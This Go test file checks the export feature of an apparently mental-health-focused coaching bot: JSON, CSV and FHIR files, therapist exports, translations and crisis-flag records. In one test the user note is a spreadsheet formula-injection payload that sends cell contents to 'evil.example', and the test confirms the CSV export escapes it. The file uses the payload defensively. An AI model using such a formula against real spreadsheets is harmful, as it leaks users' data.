package coach_test

import (
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aftercare/aftercare/coach"
	"github.com/aftercare/aftercare/coach/lang"
	"github.com/aftercare/aftercare/internal/langtest"
)

// exportOf runs /export for a person and returns the reply and its files
// by kind: "json", "csv" and "fhir".
func (w *world) exportOf(id, name string) (coach.Message, map[string][]byte) {
	w.t.Helper()
	msgs, err := w.coach.Handle(w.ctx, coach.Event{Person: id, Name: name, Command: "export"})
	if err != nil || len(msgs) != 1 {
		w.t.Fatalf("export = %+v, %v; want one message", msgs, err)
	}
	files := map[string][]byte{}
	for _, f := range msgs[0].Files {
		switch {
		case strings.Contains(f.Name, "fhir"):
			files["fhir"] = f.Data
		case strings.HasSuffix(f.Name, ".csv"):
			files["csv"] = f.Data
		default:
			files["json"] = f.Data
		}
	}
	return msgs[0], files
}

// richPerson gives me a bit of everything there is to hold: a session with
// an intention, answers and a note, movement, questionnaires, a reflection,
// a safety plan, a share with a therapist, a group challenge and an open
// group answer, a registration as a therapist with a patient, and plan
// messages sent, held back and missed. It ends on Thursday morning.
func (w *world) richPerson(note string) {
	w.t.Helper()
	code := w.registerTherapist()
	w.shareWith(me, "Sam", code, "an")
	mine := codePattern.FindString(w.as(me, "Sam", inClinic(coach.Event{Command: "therapist", Args: map[string]string{"action": "register"}}, "Therapist")))
	w.onboard("2", "Ana")
	w.as("2", "Ana", coach.Event{Command: "share", Args: map[string]string{"code": mine}})
	w.as("2", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbShare, Field: mine, Value: "ok:"}})

	w.handle(coach.Event{Command: "session", Args: map[string]string{"intention": "to be gentle with myself"}})
	w.setupGroup(map[string]string{"k": "3"})
	w.as("7000", "Admin", coach.Event{Command: "group", Channel: channel, CanManage: true, Args: map[string]string{"action": "challenge", "minutes": "100"}})
	w.press(coach.Action{Verb: coach.VerbGroupJoin, Field: channel})
	post := coach.NewJob("group-"+channel, coach.JobGroupPost, "2026-03-02", monday9am)
	if _, err := w.coach.Deliver(w.ctx, post); err != nil {
		w.t.Fatal(err)
	}
	if err := w.coach.GroupPosted(w.ctx, post, "post-1"); err != nil {
		w.t.Fatal(err)
	}
	w.handle(coach.Event{Channel: channel, Press: &coach.Action{Verb: coach.VerbGroupMood, Day: "2026-03-02", Field: channel, Value: "3"}})
	w.writeStep(coach.StepWarningSigns, "b", "not sleeping")

	w.deliver(coach.NewJob(me, coach.JobCheckIn, "2026-03-02", time.Date(2026, 3, 2, 20, 0, 0, 0, time.UTC)))
	w.answer("2026-03-02", coach.FieldMood, "2")
	w.handle(coach.Event{Submit: &coach.Action{Verb: coach.VerbNote, Day: "2026-03-02"}, Text: note})
	w.handle(coach.Event{Command: "moved", Args: map[string]string{"minutes": "25"}})
	w.questionnaire(me, "phq9", "2026-03-02", 1, 1, 1, 1, 1, 1, 1, 1, 0)
	w.difficulty(me, "2026-03-02", "1")
	w.questionnaire(me, "gad7", "2026-03-02", 0, 1, 2, 3, 0, 1, 2)

	msgs := w.finishCheckIn("2026-03-03", time.Date(2026, 3, 3, 20, 0, 0, 0, time.UTC))
	write := msgs[len(msgs)-1].Buttons[0].Action
	in := w.msgs(coach.Event{Press: &write})
	w.handle(coach.Event{Submit: &in[0].Input.Action, Text: "the music stayed with me"})

	w.clock.Set(time.Date(2026, 3, 4, 9, 0, 0, 0, time.UTC))
	w.handle(coach.Event{Command: "moved", Args: map[string]string{"minutes": "15"}})
	w.deliver(coach.NewJob(me, coach.JobNudge, "2026-03-04", time.Date(2026, 3, 4, 12, 0, 0, 0, time.UTC)))
	w.clock.Set(time.Date(2026, 3, 5, 10, 0, 0, 0, time.UTC))
	if _, err := w.coach.Deliver(w.ctx, coach.NewJob(me, coach.JobCheckIn, "2026-03-04", time.Date(2026, 3, 4, 20, 0, 0, 0, time.UTC))); err != nil {
		w.t.Fatal(err)
	}
}

// emptyValues lists where a decoded JSON document holds a value that says
// nothing: null, "", an empty list or object, or Go's zero time.
func emptyValues(path string, v any) []string {
	switch v := v.(type) {
	case nil:
		return []string{path + ": null"}
	case string:
		if v == "" || strings.HasPrefix(v, "0001-01-01") {
			return []string{path + ": " + v}
		}
	case []any:
		if len(v) == 0 {
			return []string{path + ": []"}
		}
		var out []string
		for _, e := range v {
			out = append(out, emptyValues(path+"[]", e)...)
		}
		return out
	case map[string]any:
		if len(v) == 0 {
			return []string{path + ": {}"}
		}
		var out []string
		for k, e := range v {
			out = append(out, emptyValues(path+"."+k, e)...)
		}
		return out
	}
	return nil
}

// timesNotIn lists the RFC 3339 times in a document that are not given with
// the zone's offset at that moment.
func timesNotIn(v any, loc *time.Location) []string {
	var out []string
	switch v := v.(type) {
	case string:
		if t, err := time.Parse(time.RFC3339, v); err == nil {
			_, want := t.In(loc).Zone()
			if _, got := t.Zone(); got != want {
				out = append(out, v)
			}
		}
	case []any:
		for _, e := range v {
			out = append(out, timesNotIn(e, loc)...)
		}
	case map[string]any:
		for _, e := range v {
			out = append(out, timesNotIn(e, loc)...)
		}
	}
	return out
}

var wrongPlural = regexp.MustCompile(`\b1 (day|hour|minute|questionnaire|week)s\b`)

func TestExportOfARichPersonHasEverySectionAndNoZeroValues(t *testing.T) {
	w := newWorld(t, monday9am)
	note := `=HYPERLINK("http://evil.example/?"&A1,"help")`
	w.richPerson(note)
	msg, files := w.exportOf(me, "Sam")
	if !msg.ByDM || files["json"] == nil || files["csv"] == nil || files["fhir"] == nil {
		t.Fatalf("export = %q with %d files; want JSON, CSV and FHIR, by DM", msg.Text, len(msg.Files))
	}
	var doc map[string]any
	if err := json.Unmarshal(files["json"], &doc); err != nil {
		t.Fatal(err)
	}
	for _, section := range []string{"about", "exported_at", "time_zone", "answer_scales", "settings", "therapy_sessions", "days",
		"questionnaires", "intentions", "reflections", "safety_plan", "messages", "coming", "groups", "shares", "sharing_record", "therapist"} {
		if _, ok := doc[section]; !ok {
			t.Errorf("no %q section", section)
		}
	}
	if empty := emptyValues("", doc); len(empty) > 0 {
		t.Errorf("values that say nothing: %v", empty)
	}
	london, _ := time.LoadLocation("Europe/London")
	if wrong := timesNotIn(doc, london); len(wrong) > 0 {
		t.Errorf("times not in London time: %v", wrong)
	}
	if p := wrongPlural.FindString(string(files["json"]) + msg.Text); p != "" {
		t.Errorf("wrong plural %q", p)
	}
	text := string(files["json"])
	for _, want := range []string{
		`"daily_check_in": "at 20:00, Europe/London time, on the days of a plan"`, `"status": "active: `,
		`"intention": "to be gentle with myself"`, `"text": "the music stayed with me"`, `"answer": "not sleeping"`,
		`"not_sent": "not sent: you had already moved that day"`, `"not_sent": "not sent: Aftercare was not running`,
		`"message": "check-in"`, `"channel": "5001"`, `"mood": "3 (Okay)"`, `"group_checkin_mood": 3`, `"therapist": "Dr Rivera"`,
		`"shown_as": "Ana"`, `"about_patients": `, `"vouched_for_by_server": "the server “Bright Clinic”"`, `"questionnaire": "PHQ-9 (Patient Health Questionnaire-9)"`,
		`"difficulty_not_scored": "Somewhat difficult"`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("export lacks %s", want)
		}
	}
	if strings.Contains(text, "PausedUntil") || strings.Contains(text, `"ID"`) {
		t.Error("export still holds a dump of a Go struct")
	}
	rows, err := csv.NewReader(strings.NewReader(string(files["csv"]))).ReadAll()
	if err != nil || !slices.ContainsFunc(rows, func(r []string) bool { return r[6] == "'"+note }) {
		t.Errorf("CSV = %v, %v; want the note behind a single quote", rows, err)
	}
}

func TestExportForATherapistWhoNeverRanStart(t *testing.T) {
	w := newWorld(t, monday9am)
	w.as(therapistID, "Dr Rivera", inClinic(coach.Event{Command: "therapist",
		Args: map[string]string{"action": "register", "zone": "America/New_York", "day": "Friday", "time": "08:30"}}, "Therapist"))
	w.onboard("1", "Ana")
	code := codePattern.FindString(w.as(therapistID, "Dr Rivera", coach.Event{Command: "therapist", Args: map[string]string{"action": "code"}}))
	w.as("1", "Ana", coach.Event{Command: "share", Args: map[string]string{"code": code}})
	w.as("1", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbShare, Field: code, Value: "ok:a"}})
	w.seedDays("1", "2026-03-02", []int{2}, 10, "Ana's own words")

	msg, files := w.exportOf(therapistID, "Dr Rivera")
	if strings.Contains(msg.Text, "haven't set things up") || files["json"] == nil {
		t.Fatalf("therapist export = %q", msg.Text)
	}
	if files["csv"] != nil || files["fhir"] != nil {
		t.Errorf("a therapist with no check-ins got %d files", len(msg.Files))
	}
	var doc struct {
		Settings  *json.RawMessage `json:"settings"`
		Therapist struct {
			Name     string `json:"name"`
			Digest   string `json:"weekly_digest"`
			Code     string `json:"invite_code"`
			Patients []struct {
				ShownAs string   `json:"shown_as"`
				Since   string   `json:"since"`
				Sees    []string `json:"you_see"`
			} `json:"patients_sharing_with_you"`
		} `json:"therapist"`
		ExportedAt string `json:"exported_at"`
		Coming     []struct {
			At, Message string
		} `json:"coming"`
	}
	if err := json.Unmarshal(files["json"], &doc); err != nil {
		t.Fatal(err)
	}
	th := doc.Therapist
	if th.Name != "Dr Rivera" || th.Digest != "Fridays at 08:30, America/New_York time" || th.Code != code || doc.Settings != nil {
		t.Errorf("therapist = %+v, settings %s", th, *doc.Settings)
	}
	if len(th.Patients) != 1 || th.Patients[0].ShownAs != "Ana" || !strings.HasSuffix(th.Patients[0].Since, "-05:00") ||
		!slices.Contains(th.Patients[0].Sees, "an alert the moment they reach out in a crisis, and a short note when the safety questions or what they write suggest talking about their safety soon") {
		t.Errorf("patients = %+v", th.Patients)
	}
	if !strings.HasSuffix(doc.ExportedAt, "-05:00") || len(doc.Coming) != 1 || doc.Coming[0].Message != "your weekly digest, as a therapist" {
		t.Errorf("exported_at %q, coming %+v; want New York time and the digest", doc.ExportedAt, doc.Coming)
	}
	for _, leak := range []string{`"1"`, "Ana's own words", `"mood"`} {
		if strings.Contains(string(files["json"]), leak) {
			t.Errorf("the therapist's export holds the patient's %s", leak)
		}
	}

	// Once the patient stops sharing, they are gone from it.
	w.as("1", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbRevoke, Field: therapistID}})
	if _, files := w.exportOf(therapistID, "Dr Rivera"); strings.Contains(string(files["json"]), "Ana") {
		t.Error("a patient who stopped sharing is still in the therapist's export")
	}
}

func TestExportOfSomeoneUnknown(t *testing.T) {
	w := newWorld(t, monday9am)
	msg, files := w.exportOf("4242", "Stranger")
	if len(files) != 0 || !strings.Contains(msg.Text, "nothing of yours") {
		t.Errorf("export of someone unknown = %q, %d files", msg.Text, len(files))
	}
}

// fhirShape decodes a bundle as FHIR R4 defines its elements, refusing any
// element R4 does not have, and checks the rules of the parts used:
// https://hl7.org/fhir/R4/bundle.html, questionnaireresponse.html, datatypes.html.
type fhirShape struct {
	ResourceType string `json:"resourceType"`
	Type         string `json:"type"`
	Timestamp    string `json:"timestamp"`
	Entry        []struct {
		FullURL  string `json:"fullUrl"`
		Resource struct {
			ResourceType string `json:"resourceType"`
			ID           string `json:"id"`
			Identifier   struct {
				System, Value string
			} `json:"identifier"`
			Questionnaire string `json:"questionnaire"`
			Status        string `json:"status"`
			Subject       struct {
				Display string `json:"display"`
			} `json:"subject"`
			Authored string `json:"authored"`
			Item     []struct {
				LinkID string `json:"linkId"`
				Text   string `json:"text"`
				Answer []struct {
					ValueInteger *int    `json:"valueInteger"`
					ValueString  *string `json:"valueString"`
				} `json:"answer"`
			} `json:"item"`
		} `json:"resource"`
	} `json:"entry"`
}

var (
	fhirID       = regexp.MustCompile(`^[A-Za-z0-9\-\.]{1,64}$`)
	fhirDateTime = regexp.MustCompile(`^([0-9]([0-9]([0-9][1-9]|[1-9]0)|[1-9]00)|[1-9]000)(-(0[1-9]|1[0-2])(-(0[1-9]|[1-2][0-9]|3[0-1])(T([01][0-9]|2[0-3]):[0-5][0-9]:([0-5][0-9]|60)(\.[0-9]+)?(Z|(\+|-)((0[0-9]|1[0-3]):[0-5][0-9]|14:00)))?)?)?$`)
	fhirInstant  = regexp.MustCompile(`^([0-9]([0-9]([0-9][1-9]|[1-9]0)|[1-9]00)|[1-9]000)-(0[1-9]|1[0-2])-(0[1-9]|[1-2][0-9]|3[0-1])T([01][0-9]|2[0-3]):[0-5][0-9]:([0-5][0-9]|60)(\.[0-9]+)?(Z|(\+|-)((0[0-9]|1[0-3]):[0-5][0-9]|14:00))$`)
	fhirURI      = regexp.MustCompile(`^[a-z][a-z0-9+.-]*:\S+$`)
)

func decodeFHIR(t *testing.T, data []byte) fhirShape {
	t.Helper()
	var b fhirShape
	dec := json.NewDecoder(strings.NewReader(string(data)))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&b); err != nil {
		t.Fatalf("FHIR bundle: %v", err)
	}
	if b.ResourceType != "Bundle" || b.Type != "collection" || !fhirInstant.MatchString(b.Timestamp) {
		t.Errorf("bundle = %s %s %s", b.ResourceType, b.Type, b.Timestamp)
	}
	urls := map[string]bool{}
	for _, e := range b.Entry {
		r := e.Resource
		if !fhirURI.MatchString(e.FullURL) || urls[e.FullURL] { // bdl-7: fullUrl unique
			t.Errorf("fullUrl %q", e.FullURL)
		}
		urls[e.FullURL] = true
		if r.ResourceType != "QuestionnaireResponse" || !fhirID.MatchString(r.ID) || !fhirURI.MatchString(r.Questionnaire) ||
			!fhirURI.MatchString(r.Identifier.System) || r.Identifier.Value == "" || !fhirDateTime.MatchString(r.Authored) ||
			!slices.Contains([]string{"in-progress", "completed", "amended", "entered-in-error", "stopped"}, r.Status) {
			t.Errorf("response = %+v", r)
		}
		for _, it := range r.Item {
			for _, a := range it.Answer {
				if it.LinkID == "" || (a.ValueInteger == nil) == (a.ValueString == nil) {
					t.Errorf("item %+v: a linkId and exactly one value[x] needed", it)
				}
			}
		}
	}
	return b
}

func TestFHIRBundleCarriesLOINCCodesAndTotals(t *testing.T) {
	w := newWorld(t, monday9am)
	w.onboard("1", "Ana")
	w.questionnaire("1", "phq9", "2026-03-02", 1, 2, 1, 0, 0, 1, 0, 3, 0) // 8
	w.difficulty("1", "2026-03-02", "2")
	w.questionnaire("1", "gad7", "2026-03-02", 0, 1, 2, 3, 0, 1, 2) // 9
	w.questionnaire("1", "pcptsd5", "2026-03-02", 0)                // no trauma: 0, the rest not asked
	w.questionnaire("1", "phq2", "2026-03-02", 1)                   // left after one item
	_, files := w.exportOf("1", "Ana")
	b := decodeFHIR(t, files["fhir"])
	type want struct {
		status string
		total  string // the total's linkId
		value  int
		items  int
	}
	wants := map[string]want{
		"http://loinc.org/q/44249-1":  {"completed", "/44261-6", 8, 11},
		"http://loinc.org/q/69737-5":  {"completed", "/70274-6", 9, 8},
		"http://loinc.org/q/102010-6": {"completed", "/102017-1", 0, 2},
		"http://loinc.org/q/55757-9":  {"in-progress", "", 0, 1},
	}
	if len(b.Entry) != len(wants) {
		t.Fatalf("%d responses, want %d", len(b.Entry), len(wants))
	}
	for _, e := range b.Entry {
		r := e.Resource
		wt, ok := wants[r.Questionnaire]
		if !ok || r.Status != wt.status || r.Authored != "2026-03-02" || len(r.Item) != wt.items || r.Subject.Display != "Ana" {
			t.Errorf("%s: status %s, authored %s, %d items, subject %q; want %+v", r.Questionnaire, r.Status, r.Authored, len(r.Item), r.Subject.Display, wt)
			continue
		}
		last := r.Item[len(r.Item)-1]
		if wt.total != "" && (last.LinkID != wt.total || *last.Answer[0].ValueInteger != wt.value) {
			t.Errorf("%s: total item %+v, want %s = %d", r.Questionnaire, last, wt.total, wt.value)
		}
	}
	phq9 := b.Entry[0].Resource
	if phq9.Item[0].LinkID != "/44250-9" || *phq9.Item[1].Answer[0].ValueInteger != 2 || phq9.Item[8].LinkID != "/44260-8" ||
		phq9.Item[9].LinkID != "phq9-difficulty" || *phq9.Item[9].Answer[0].ValueString != "Very difficult" {
		t.Errorf("PHQ-9 items = %+v", phq9.Item)
	}
}

// The day of a pause is recorded as held back, with why, for /export.
func TestHeldMessagesAreRecordedWithWhy(t *testing.T) {
	w := newWorld(t, monday9am)
	w.handle(coach.Event{Command: "pause", Args: map[string]string{"days": "2"}})
	w.deliver(coach.NewJob(me, coach.JobCheckIn, "2026-03-02", time.Date(2026, 3, 2, 20, 0, 0, 0, time.UTC)))
	if got := w.checkIn("2026-03-02").Held[coach.JobCheckIn]; got != "paused" {
		t.Errorf("held = %q, want paused", got)
	}
	_, files := w.exportOf(me, "Sam")
	if !strings.Contains(string(files["json"]), `"not_sent": "not sent: you had paused messages"`) {
		t.Errorf("export lacks the held check-in:\n%s", files["json"])
	}
}

// The source of a crisis flag kept on a day (what a therapist's alert and
// page name) is the person's too, and in their export.
func TestExportHoldsCrisisFlagSources(t *testing.T) {
	w := newWorld(t, monday9am)
	w.onboard(me, "Sam")
	if err := w.store.SaveAnswer(w.ctx, me, "2026-03-02", "crisis_from:words", "2026-03-02T09:00:00Z"); err != nil {
		t.Fatal(err)
	}
	_, files := w.exportOf(me, "Sam")
	text := string(files["json"])
	for _, want := range []string{`"crisis_flags_recorded"`, `"source": "words"`, `"at": "2026-03-02T09:00:00Z"`} {
		if !strings.Contains(text, want) {
			t.Errorf("export lacks %s", want)
		}
	}
}

// The settings a French speaker's export spells out, the answer scales
// and the safety plan's headings are in French; the keys stay as they are
// (a program reads them).
func TestExportSettingsInThePersonsLanguage(t *testing.T) {
	w := newWorld(t, monday9am)
	w.onboard("1", "Ana")
	w.as("1", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbSetting, Field: "language", Value: "fr"}})
	w.as("1", "Ana", coach.Event{Command: "checkin"})
	w.as("1", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbAnswer, Day: "2026-03-02", Field: "mood", Value: "4"}})
	w.as("1", "Ana", coach.Event{Command: "safetyplan"})
	w.as("1", "Ana", coach.Event{Submit: &coach.Action{Verb: coach.VerbSafetyPlan, Field: "warning", Value: "b"}, Text: "je dors mal"})
	msg, files := w.exportOf("1", "Ana")
	fr := lang.For("fr")
	doc := string(files["json"])
	for _, want := range []string{fr.T("export.check_in", lang.Args{"Time": "20:00", "Zone": "Europe/London"}), `"daily_check_in"`,
		"5 " + fr.T("checkin.mood.level5"), fr.T("safetyplan.warning"), fr.N("export.days", 7)} {
		if !strings.Contains(doc, want) {
			t.Errorf("export lacks %q:\n%s", want, doc)
		}
	}
	if !strings.HasPrefix(msg.Text, fr.T("export.text", lang.Args{"Parts": ""})[:20]) {
		t.Errorf("export message = %q, want it in French", msg.Text)
	}
}

// A Spanish speaker's export says in Spanish every value they read about
// themselves: the note at its top, the settings (status, the country for
// crisis lines, the command that starts things again), who logged each
// session, what each share lets a therapist see, the messages sent, held
// back and planned, and why. The keys stay English: a program reads them
// (the README's /export row).
func TestExportValuesInSpanish(t *testing.T) {
	w := newWorld(t, monday9am)
	w.richPerson("una nota")
	w.as(me, "Sam", coach.Event{Press: &coach.Action{Verb: coach.VerbSetting, Field: "language", Value: "es"}})
	_, files := w.exportOf(me, "Sam")
	var doc map[string]any
	if err := json.Unmarshal(files["json"], &doc); err != nil {
		t.Fatal(err)
	}
	es := lang.For("es")
	text := string(files["json"])
	for _, want := range []string{`"status": "` + es.T("export.status_active") + `"`, `"logged_by": "tú"`,
		`"they_see": [`, es.T("export.scope_adherence"), es.T("export.about", lang.Args{"Zone": "Europe/London"})} {
		if !strings.Contains(text, want) {
			t.Errorf("export lacks %s", want)
		}
	}
	if doc["messages"] == nil || doc["coming"] == nil {
		t.Fatalf("export has no messages or nothing coming: %s", text)
	}
	for _, section := range []string{"about", "settings", "therapy_sessions", "shares", "answer_scales", "days", "safety_plan", "messages", "coming"} {
		var english []string
		walkStrings(doc[section], func(s string) {
			english = append(english, langtest.English(s, "es", "Dr Rivera", "Europe/London", "Bright Clinic", "una nota")...)
		})
		if len(english) > 0 {
			t.Errorf("%s: English in a Spanish export: %q", section, english)
		}
	}
}

// walkStrings calls f with every string value of a JSON document, never a key.
func walkStrings(v any, f func(string)) {
	switch v := v.(type) {
	case string:
		f(v)
	case []any:
		for _, e := range v {
			walkStrings(e, f)
		}
	case map[string]any:
		for _, e := range v {
			walkStrings(e, f)
		}
	}
}

// A therapist reads their own part of an export in their language: what
// each patient lets them see, said of the patient (export.their_*), not
// as the patient's own export says it to them, their digest's day, the
// server that vouched and the word on patients.
func TestTherapistExportSaysWhatTheySeeInTheirLanguage(t *testing.T) {
	for _, l := range lang.Langs {
		t.Run(l, func(t *testing.T) {
			w := newWorld(t, monday9am)
			code := w.registerTherapist()
			w.onboard("1", "Ana")
			w.as("1", "Ana", coach.Event{Command: "share", Args: map[string]string{"code": code}})
			w.as("1", "Ana", coach.Event{Press: &coach.Action{Verb: coach.VerbShare, Field: code, Value: "ok:anr"}})
			msgs, err := w.coach.Handle(w.ctx, coach.Event{Person: therapistID, Name: "Dr Rivera", Command: "export", Locale: l})
			if err != nil || len(msgs) != 1 || len(msgs[0].Files) == 0 {
				t.Fatalf("export = %+v, %v", msgs, err)
			}
			var doc struct {
				Therapist struct {
					Digest   string `json:"weekly_digest"`
					About    string `json:"about_patients"`
					Patients []struct {
						Sees []string `json:"you_see"`
					} `json:"patients_sharing_with_you"`
				} `json:"therapist"`
			}
			if err := json.Unmarshal(msgs[0].Files[0].Data, &doc); err != nil || len(doc.Therapist.Patients) != 1 {
				t.Fatalf("export %s: %v", msgs[0].Files[0].Data, err)
			}
			p := lang.For(l)
			if doc.Therapist.About != p.T("export.about_patients") || !strings.Contains(doc.Therapist.Digest, p.Weekday(time.Monday)) || !strings.Contains(doc.Therapist.Digest, "UTC") {
				t.Errorf("therapist part: digest %q, about %q; want them in %s", doc.Therapist.Digest, doc.Therapist.About, l)
			}
			if l != lang.Default {
				var all map[string]any
				if err := json.Unmarshal(msgs[0].Files[0].Data, &all); err != nil {
					t.Fatal(err)
				}
				var english []string
				walkStrings(all["therapist"], func(s string) {
					english = append(english, langtest.English(s, l, "Dr Rivera", "Ana", "Europe/London", "UTC")...)
				})
				if len(english) > 0 {
					t.Errorf("English in a %s therapist's export: %q", l, english)
				}
			}
			var want []string
			for _, key := range []string{"adherence", "trends", "minutes", "scores", "alerts", "notes", "reflections"} {
				want = append(want, p.T("export.their_"+key))
			}
			if got := doc.Therapist.Patients[0].Sees; !slices.Equal(got, want) {
				t.Errorf("you_see = %q, want %q", got, want)
			}
		})
	}
}
